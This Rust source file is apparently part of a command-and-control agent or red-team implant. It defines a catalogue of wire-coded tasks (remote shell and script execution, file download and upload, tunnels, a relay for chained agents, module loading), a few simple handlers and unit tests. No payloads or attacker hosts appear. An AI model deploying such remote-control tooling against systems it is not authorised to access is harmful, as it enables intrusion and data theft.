//! Task handlers, grouped by concern. Each file carries an `impl Agent`
//! block; every handler answers through the response side channel and
//! returns `Result<(), TaskError>` for the dispatcher to translate.

pub mod code;
pub mod files;
pub mod modules;
pub mod relay;
pub mod shell;
pub mod tunnel;

use crate::agent::Agent;
use crate::error::TaskError;
use crate::sysinfo;

/// The task catalogue. Discriminants are the wire codes.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[repr(u32)]
pub enum TaskKind {
    /// Respond with the host identity record.
    Sysinfo = 1,
    /// Orderly agent shutdown.
    Exit = 2,
    /// Recognized but inert (proxy configuration).
    ProxyConfig = 34,
    /// Prebuilt command verbs with a native shell fallback.
    RunCommand = 40,
    /// Chunked file download, one part per response.
    FileDownload = 41,
    /// Append-based file upload.
    FileUpload = 42,
    /// Single-level directory listing as JSON.
    DirectoryList = 43,
    /// Codec-packed script run as a tracked job.
    PackedExecute = 44,
    /// List active background jobs.
    JobList = 50,
    /// Stop one background job by id.
    JobStop = 51,
    /// Start the byte-stream tunnel.
    TunnelStart = 60,
    /// One inbound tunnel frame, base64-encoded.
    TunnelData = 61,
    /// Start the local relay server for chained agents.
    RelayStart = 70,
    /// Run a script and respond with captured output.
    ScriptRun = 100,
    /// Run a script, respond with prefixed codec-packed output.
    ScriptRunSave = 101,
    /// Write the script to disk, run it as a subprocess, delete it.
    ScriptRunDisk = 102,
    /// Run a script as a background job with streamed output.
    JobStart = 110,
    /// Recognized but inert (reserved in the protocol).
    ReservedJobSave = 111,
    /// Run a shell command line as a background job.
    ShellJob = 112,
    /// Run a script and respond with captured output (alternate code).
    ScriptRunAlt = 118,
    /// Recognized but inert (reserved in the protocol).
    Reserved119 = 119,
    /// Run a base64-encoded script and respond with captured output.
    ScriptCommand = 121,
    /// Load a module archive into the repository.
    ModuleLoad = 122,
    /// List loaded modules (all, or one module's files).
    ModuleList = 123,
    /// Remove a loaded module.
    ModuleRemove = 124,
    /// Placeholder: listener profile switching.
    ProfileSwitch = 130,
    /// Placeholder: listener rename.
    ListenerRename = 131,
}

impl TaskKind {
    /// Map a wire code to its task kind.
    pub fn from_code(code: u32) -> Option<Self> {
        Some(match code {
            1 => Self::Sysinfo,
            2 => Self::Exit,
            34 => Self::ProxyConfig,
            40 => Self::RunCommand,
            41 => Self::FileDownload,
            42 => Self::FileUpload,
            43 => Self::DirectoryList,
            44 => Self::PackedExecute,
            50 => Self::JobList,
            51 => Self::JobStop,
            60 => Self::TunnelStart,
            61 => Self::TunnelData,
            70 => Self::RelayStart,
            100 => Self::ScriptRun,
            101 => Self::ScriptRunSave,
            102 => Self::ScriptRunDisk,
            110 => Self::JobStart,
            111 => Self::ReservedJobSave,
            112 => Self::ShellJob,
            118 => Self::ScriptRunAlt,
            119 => Self::Reserved119,
            121 => Self::ScriptCommand,
            122 => Self::ModuleLoad,
            123 => Self::ModuleList,
            124 => Self::ModuleRemove,
            130 => Self::ProfileSwitch,
            131 => Self::ListenerRename,
            _ => return None,
        })
    }

    /// The wire code for this kind.
    pub fn code(self) -> u32 {
        self as u32
    }

    /// Codes that are part of the protocol but deliberately inert here.
    pub fn is_reserved(self) -> bool {
        matches!(
            self,
            Self::ProxyConfig | Self::ReservedJobSave | Self::Reserved119
        )
    }

    /// All dispatchable (non-reserved) kinds, for exhaustive tests.
    pub fn all() -> &'static [TaskKind] {
        &[
            Self::Sysinfo,
            Self::Exit,
            Self::ProxyConfig,
            Self::RunCommand,
            Self::FileDownload,
            Self::FileUpload,
            Self::DirectoryList,
            Self::PackedExecute,
            Self::JobList,
            Self::JobStop,
            Self::TunnelStart,
            Self::TunnelData,
            Self::RelayStart,
            Self::ScriptRun,
            Self::ScriptRunSave,
            Self::ScriptRunDisk,
            Self::JobStart,
            Self::ReservedJobSave,
            Self::ShellJob,
            Self::ScriptRunAlt,
            Self::Reserved119,
            Self::ScriptCommand,
            Self::ModuleLoad,
            Self::ModuleList,
            Self::ModuleRemove,
            Self::ProfileSwitch,
            Self::ListenerRename,
        ]
    }
}

// ── Identity / liveness handlers ────────────────────────────────────

impl Agent {
    /// Task 1: respond with the 13-field host identity record.
    pub(crate) async fn handle_sysinfo(&self, id: &str) -> Result<(), TaskError> {
        let record = sysinfo::collect(&self.config.server, &self.config.session_id);
        self.responses.send(TaskKind::Sysinfo.code(), &record, id).await?;
        Ok(())
    }

    /// Task 2: acknowledge, stop every job, and let the loop terminate.
    pub(crate) async fn handle_exit(&self, id: &str) -> Result<(), TaskError> {
        self.responses.send(TaskKind::Exit.code(), "", id).await?;
        self.jobs.stop_all().await;
        Ok(())
    }

    /// Task 50: list active background jobs, oldest first.
    pub(crate) async fn handle_job_list(&self, id: &str) -> Result<(), TaskError> {
        let lines = self.jobs.describe().await;
        let body = if lines.is_empty() {
            "no active jobs".to_string()
        } else {
            format!("active jobs:\n{}", lines.join("\n"))
        };
        self.responses
            .send(TaskKind::JobList.code(), &body, id)
            .await?;
        Ok(())
    }

    /// Task 51: stop one background job by id.
    pub(crate) async fn handle_job_stop(&self, data: &str, id: &str) -> Result<(), TaskError> {
        let job_id = data.trim();
        self.jobs.stop(job_id).await?;
        self.responses
            .send(
                TaskKind::JobStop.code(),
                &format!("job {job_id} stopped"),
                id,
            )
            .await?;
        Ok(())
    }

    /// Tasks 130/131: recognized placeholders, each answered on its own code.
    pub(crate) async fn handle_profile_placeholder(
        &self,
        kind: TaskKind,
        id: &str,
    ) -> Result<(), TaskError> {
        self.responses
            .send(kind.code(), "listener profile switching not implemented", id)
            .await?;
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_codes_round_trip() {
        for kind in TaskKind::all() {
            assert_eq!(TaskKind::from_code(kind.code()), Some(*kind));
        }
    }

    #[test]
    fn test_unknown_codes_are_none() {
        for code in [0, 3, 39, 45, 99, 113, 120, 125, 132, 9999] {
            assert!(TaskKind::from_code(code).is_none(), "code {code}");
        }
    }

    #[test]
    fn test_reserved_codes() {
        assert!(TaskKind::ProxyConfig.is_reserved());
        assert!(TaskKind::ReservedJobSave.is_reserved());
        assert!(TaskKind::Reserved119.is_reserved());
        assert!(!TaskKind::Sysinfo.is_reserved());
        assert!(!TaskKind::JobStart.is_reserved());
    }

    #[test]
    fn test_discriminants_match_wire_codes() {
        assert_eq!(TaskKind::Sysinfo.code(), 1);
        assert_eq!(TaskKind::FileDownload.code(), 41);
        assert_eq!(TaskKind::TunnelData.code(), 61);
        assert_eq!(TaskKind::ModuleRemove.code(), 124);
        assert_eq!(TaskKind::ListenerRename.code(), 131);
    }
}
